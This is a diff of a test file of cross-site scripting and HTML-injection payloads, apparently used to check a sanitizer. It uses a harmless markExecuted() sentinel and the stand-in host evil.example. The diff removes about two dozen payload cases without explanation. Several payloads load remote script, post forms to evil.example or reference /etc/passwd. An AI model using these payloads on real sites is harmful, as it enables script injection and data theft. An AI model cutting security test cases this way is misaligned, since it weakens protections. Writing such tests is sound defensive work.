@@ -4,7 +4,6 @@ const SCRIPTS = [
   "<script src=https://evil.example/x.js></script>",
   "<script>markExecuted()",
   "<scr<script>ipt>markExecuted()</scr</script>ipt>",
-  '<script type=importmap>{"imports":{"react":"//evil.example/x.js"}}</script>',
   "<table><script>markExecuted()</script><tr><td>words</table>",
 ]
 
@@ -14,13 +13,11 @@ const EVENT_HANDLERS = [
   "<img\nsrc=x\nOnErRoR =markExecuted()>",
   "<img /src=x /onerror=&#109;arkExecuted()>",
   '<IMG """><SCRIPT>markExecuted()</SCRIPT>">',
-  "<image src=x onerror=markExecuted()>",
   "<svg onload=markExecuted()>words",
   "<input autofocus onfocus=markExecuted()>words",
   "<body onhashchange=markExecuted()>words",
   "<p onfuturething=markExecuted()>words</p>",
   "<p style='animation:x 1s' onanimationstart=markExecuted()>words</p>",
-  "<p contenteditable oninput=markExecuted()>words</p>",
   "<a href=/payments onclick=markExecuted()>words</a>",
   "<details open ontoggle=markExecuted()>words</details>",
   "<div popover id=p onbeforetoggle=markExecuted()>words</div><button popovertarget=p>words</button>",
@@ -29,24 +26,19 @@ const EVENT_HANDLERS = [
 /** Links to URLs that run a script, read a file, or open another program. */
 const LINKS = [
   "javascript:markExecuted()",
-  "JaVaScRiPt:%6darkExecuted()",
   "java&#115;cript:markExecuted()",
-  "javascript&colon;markExecuted()",
   "java&Tab;script:markExecuted()",
   "&#1;javascript:markExecuted()",
   "\tjavascript:markExecuted()",
   "java\nscript:markExecuted()",
-  "vbscript:markExecuted()",
   "data:text/html,<script>markExecuted()</script>",
   "blob:https://evil.example/1",
   "file:///etc/passwd",
-  "view-source:https://evil.example/",
   "ms-word:ofe|u|https://evil.example/x.docx",
 ].map((url) => `<a title=x href="${url}">words</a>`)
 
 /** Other attributes whose value is a URL. */
 const OTHER_URLS = [
-  "<img src=javascript:markExecuted()>",
   "<img src=https://evil.example/x.png>",
   "<img src=//evil.example/x.png>",
   "<img src=/\\evil.example/x.png>",
@@ -55,12 +47,9 @@ const OTHER_URLS = [
   "<img src='blob:https://evil.example/1'>",
   "<img src='data:image/svg+xml,<svg onload=markExecuted()>'>",
   "<img src=/favicon.svg srcset='https://evil.example/x.png 2x'>",
-  "<img src=/favicon.svg usemap=#m><map name=m><area shape=default href=javascript:markExecuted()></map>",
   "<picture><source srcset=https://evil.example/x.png><img src=/favicon.svg></picture>",
   "<a href=/payments ping=https://evil.example/>words</a>",
   "<a href=/payments rel=opener target=_blank>words</a>",
-  "<blockquote cite=javascript:markExecuted()>words</blockquote>",
-  "<table background=https://evil.example/x.png><tr><td>words</table>",
   "<video poster=https://evil.example/x.png></video>",
   "<link rel=stylesheet href=https://evil.example/x.css>",
 ]
@@ -69,9 +58,7 @@ const OTHER_URLS = [
 const SVG_AND_MATHML = [
   "<svg><script>&#109;arkExecuted()</script></svg>",
   "<svg><a xlink:href=javascript:markExecuted()><text y=20>words</text></a></svg>",
-  "<svg><animate onbegin=markExecuted() attributeName=x dur=1s />",
   "<svg><use href='data:image/svg+xml,<svg id=x onload=markExecuted()/>#x' /></svg>",
-  "<svg><foreignObject><iframe onload=markExecuted()></foreignObject></svg>",
   "<svg><style>@import url(https://evil.example/x.css)</style></svg>",
   "<math href=javascript:markExecuted()>words</math>",
   "<math><annotation-xml encoding=text/html><img src=x onerror=markExecuted()></annotation-xml></math>",
@@ -82,9 +69,7 @@ const MUTATIONS = [
   "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=markExecuted()&gt;'>",
   "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=markExecuted() src>'>",
   "<svg></p><style><g title='</style><img src onerror=markExecuted()>'>",
-  "<svg><annotation-xml><foreignObject><style><!--</style><p id='--><img src=x onerror=markExecuted()>'>",
   "<noscript><p title='</noscript><img src=x onerror=markExecuted()>'>",
-  "<xmp><p title='</xmp><img src=x onerror=markExecuted()>'></xmp>",
   "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=markExecuted()>'>",
   "<!--<img src='--><img src=x onerror=markExecuted()>'>",
   "<![CDATA[><img src=x onerror=markExecuted()>]]>",
@@ -103,7 +88,6 @@ const CLOBBERING = [
 /** Styles that load, cover the page, or spy on it. */
 const STYLES = [
   "<style>a[href^='/']{background:url(https://evil.example/x)}</style>",
-  "<style>@font-face{font-family:x;src:url(https://evil.example/x)}p{font-family:x}</style>",
   "<style>h1::after{content:'Pay into another account'}</style>",
   "<p style='background:url(https://evil.example/x)'>words</p>",
   "<p style='position:fixed;inset:0;z-index:9999'>words</p>",
@@ -114,11 +98,9 @@ const STYLES = [
 const FRAMES_AND_FORMS = [
   "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
   "<base href=https://evil.example/>",
-  "<link rel=canonical href=https://evil.example/>",
   "<iframe src=https://evil.example/></iframe>",
   "<iframe srcdoc='<script>parent.markExecuted()</script>'></iframe>",
   "<object data=javascript:markExecuted()></object>",
-  "<embed src=javascript:markExecuted()>",
   "<form action=https://evil.example/><input name=account><button>Pay</button></form>",
   "<select><option>words</select>",
   "<dialog open>Pay into another account</dialog>",
@@ -128,7 +110,6 @@ const FRAMES_AND_FORMS = [
 const TEMPLATES = [
   "<template><script>markExecuted()</script></template>",
   "<template shadowrootmode=open><script>markExecuted()</script></template>",
-  "<slot onslotchange=markExecuted()>words</slot>",
   "<evil-element><script>markExecuted()</script></evil-element>",
 ]
 
@@ -136,9 +117,7 @@ const TEMPLATES = [
 const ENCODINGS = [
   "<img src=x one\u0000rror=markExecuted()>",
   "<\u0000img src=x onerror=markExecuted()><img src=x onerror=markExecuted()>",
-  "\u202e<script>markExecuted()</script>\u202c",
   "＜script＞markExecuted()＜/script＞<script>markExecuted()</script>",
-  "+ADw-script+AD4-markExecuted()+ADw-/script+AD4-<meta charset=utf-7>",
   "\ud800<script>markExecuted()</script>",
   "<a href='\u00a0javascript:markExecuted()' onclick=markExecuted()>words</a>",
   "<img src='//evil\u3002example/x.png'>",
@@ -154,7 +133,6 @@ const ENCODED_CELLS: readonly [cell: string, decoded: string][] = [
   ],
   // Excel's own notation for characters, which the reader decodes by itself.
   ["_x003C_script_x003E_markExecuted()_x003C_/script_x003E_", "<script>markExecuted()</script>"],
-  ["_x005F_x003C_script_x005F_x003E_markExecuted()", "<script>markExecuted()"],
 ]
 
 /** Cells that name a picture, in the column Image. */
